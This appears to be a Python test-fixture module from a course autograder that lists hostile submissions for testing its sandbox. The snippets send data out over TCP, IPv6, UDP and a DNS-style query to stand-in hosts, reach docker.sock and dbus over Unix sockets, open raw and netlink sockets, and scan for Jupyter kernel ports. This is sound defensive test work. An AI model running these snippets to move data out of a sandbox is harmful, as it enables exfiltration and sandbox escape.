"""Attacks over the network, and over sockets that are no network.  A test listens, and hears nothing."""

from __future__ import annotations

from course.grading.hostile.attack import Hostile

SALIGRAMA = "saligrama.io: Gradescope autograder security (a submission that calls home)"

TCP = """
import socket, urllib.request
def tell(address):
    with socket.create_connection(address, timeout=0.5) as out:
        out.sendall(b"stolen"); return address
attempt("tell a server on this machine", lambda: tell(("127.0.0.1", OUTSIDE["tcp"])))
attempt("tell it by its other name", lambda: tell(("0.0.0.0", OUTSIDE["tcp"])))
attempt("tell a server elsewhere", lambda: tell(("192.0.2.1", 80)))
attempt("fetch a page", lambda: urllib.request.urlopen(f"http://127.0.0.1:{OUTSIDE['tcp']}/", timeout=0.5))
attempt("ask for an address", lambda: socket.getaddrinfo("solutions.example.org", 80))
"""

TCP6 = """
import socket
def tell(address):
    with socket.create_connection(address, timeout=0.5) as out:
        out.sendall(b"stolen"); return address
attempt("tell a server by IPv6", lambda: tell(("::1", OUTSIDE["tcp6"])))
attempt("tell it by a mapped address", lambda: tell(("::ffff:127.0.0.1", OUTSIDE["tcp"])))
"""

UDP = """
import socket
def tell(*address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return out.sendto(b"stolen", address)
question = b"\\xbe\\xef\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06stolen\\x07example\\3org\\0\\0\\1\\0\\1"
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendto(question, ("127.0.0.53", 53))
note("send a datagram", lambda: tell("127.0.0.1", OUTSIDE["udp"]))  # to a loopback of its own, perhaps
note("send it to everybody", lambda: tell("255.255.255.255", OUTSIDE["udp"]))
note("hide it in a question for a name", ask)
"""

UNIX = """
import socket
def tell(kind, address):
    with socket.socket(socket.AF_UNIX, kind) as out:
        out.connect(address); out.send(b"stolen"); return address
for kind, address in ((socket.SOCK_STREAM, OUTSIDE["stream"]), (socket.SOCK_DGRAM, OUTSIDE["datagram"])):
    attempt("tell a socket in a folder", lambda: tell(kind, address))
    attempt("tell a socket without a folder", lambda: tell(kind, OUTSIDE["abstract"] + str(int(kind))))
for place in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    attempt("tell a service of this machine", lambda: tell(socket.SOCK_STREAM, place))
"""

RAW = """
import socket, struct
attempt("forge packets", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("read all packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
def network_down():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        kernel.settimeout(1)  # RTM_SETLINK for the first interface, with nothing to change
        kernel.send(struct.pack("IHHIIBxHiII", 32, 19, 5, 1, 0, 0, 0, 1, 0, 0))
        if (code := struct.unpack_from("i", kernel.recv(4096), 16)[0]):
            raise OSError(-code, "netlink")
attempt("change an interface", network_down)
"""

KERNELS = """
import glob, json, os, socket
def files():
    places = [os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent"), "/root/.local/share/jupyter/runtime",
              *glob.glob("/home/*/.local/share/jupyter/runtime"), ROOT]
    found = [f for place in places for f in glob.glob(place + "/kernel-*.json")]
    return json.load(open(found[0] if found else "/nonexistent/kernel.json"))
attempt("find a kernel's connection file", files)
def scan():
    for port in (OUTSIDE["tcp"], 8888, *range(49152, 49202)):
        with socket.socket() as out:
            out.settimeout(0.2)
            if out.connect_ex(("127.0.0.1", port)) == 0:
                return out.send(b"\\xff" + bytes(8) + b"\\x7f\\x03")  # as ZeroMQ greets
    raise ConnectionRefusedError("no port answers")
attempt("scan for the ports of kernels", scan)
"""

ATTACKS = (
    Hostile("tcp", "sends what it finds elsewhere", TCP, works=("tell a server on this machine",),
            source=SALIGRAMA),
    Hostile("tcp6", "the same by IPv6, which filters forget", TCP6, works=("tell a server by IPv6",)),
    Hostile("udp", "the same without a connection, or as a question for a name", UDP,
            works=("send a datagram",)),
    Hostile("unix-sockets", "talks to services of this machine", UNIX,
            works=("tell a socket in a folder", "tell a socket without a folder")),
    Hostile("raw-sockets", "forges packets, changes interfaces", RAW),
    Hostile("kernel-ports", "looks for notebook kernels to talk to", KERNELS,
            works=("scan for the ports of kernels",), source="measured on stock nbgrader 0.9.6"),
)  # fmt: skip
